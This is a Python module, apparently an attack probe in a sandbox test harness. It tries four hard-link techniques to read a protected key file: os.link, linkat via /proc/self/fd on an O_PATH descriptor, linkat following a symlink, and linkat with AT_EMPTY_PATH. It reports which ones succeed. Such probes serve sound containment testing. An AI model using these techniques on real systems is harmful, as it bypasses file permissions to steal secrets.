"""Gives the key a second name in the own folder, by every way to link, and opens that."""

import ctypes
import os

from world import GENTLE, KEY_FILE

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, AT_SYMLINK_FOLLOW, AT_EMPTY_PATH = -100, 0x400, 0x1000


def attack():
    got = [way.__name__ for way in WAYS if tried(way)]
    return " ".join(got) if not GENTLE or len(got) >= len(WAYS) - 1 else ""


def tried(way):
    try:
        way("linked")
        with open("linked") as file:
            return file.read()
    except OSError:
        return ""
    finally:
        if os.path.lexists("linked"):
            os.unlink("linked")


def by_link(name):
    os.link(KEY_FILE, name)


def by_descriptor_in_proc(name):
    fd = os.open(KEY_FILE, os.O_PATH)
    LIBC.linkat(AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, name.encode(), AT_SYMLINK_FOLLOW)


def by_symlink(name):
    os.symlink(KEY_FILE, "pointer")
    try:
        LIBC.linkat(AT_FDCWD, b"pointer", AT_FDCWD, name.encode(), AT_SYMLINK_FOLLOW)
    finally:
        os.unlink("pointer")


def by_bare_descriptor(name):
    """The one way that some kernels keep for CAP_DAC_READ_SEARCH."""
    LIBC.linkat(os.open(KEY_FILE, os.O_PATH), b"", AT_FDCWD, name.encode(), AT_EMPTY_PATH)


WAYS = (by_link, by_descriptor_in_proc, by_symlink, by_bare_descriptor)
